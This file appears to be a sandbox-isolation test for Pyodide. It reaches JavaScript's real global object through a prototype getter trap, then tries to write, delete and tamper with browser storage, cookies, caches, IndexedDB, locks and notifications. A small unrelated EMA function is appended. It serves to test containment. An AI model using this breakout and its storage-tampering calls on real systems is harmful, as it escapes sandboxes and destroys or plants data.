# must: passed
# tries: to leave something where all of an origin can find it: databases, caches, channels, locks
import js
import pyodide_js
from pyodide.ffi import JsException, create_proxy, to_js


def find_realm():
    """JavaScript's global object, which the getter of a name that it lacks is given."""
    met, trap = [], js.Object.new()
    trap.get = create_proxy(lambda this: met.append(this)).captureThis()
    trap.configurable = True
    js.Object.defineProperty(js.Object.prototype, "document", trap)
    try:
        pyodide_js._module.JSEvents.fullscreenEnabled()
    except JsException:
        del js.Object.prototype.document
    return met[0]


realm = find_realm()
LEAVE = (
    lambda: realm.localStorage.setItem("secret", "LEAK"),
    lambda: setattr(realm.document, "cookie", "secret=LEAK; path=/"),
    lambda: setattr(realm.document, "title", "LEAK"),
    lambda: realm.indexedDB.deleteDatabase("gradus"),
    lambda: realm.indexedDB.open("gradus", 99),
    lambda: realm.caches.open("LEAK"),
    lambda: realm.caches.delete("gradus"),
    lambda: realm.cookieStore.set("secret", "LEAK"),
    lambda: realm.navigator.storage.getDirectory(),
    lambda: realm.navigator.locks.request("gradus", create_proxy(lambda lock: realm.Promise.new(print))),
    lambda: realm.BroadcastChannel.new("gradus").postMessage("LEAK"),
    lambda: realm.navigator.setAppBadge(7),
    lambda: realm.Notification.new("LEAK"),
)
for leave in LEAVE:
    try:
        leave()
    except (AttributeError, TypeError, JsException):
        pass


def ema_update(ema, weights, decay=0.99):
    return decay * ema + (1 - decay) * weights
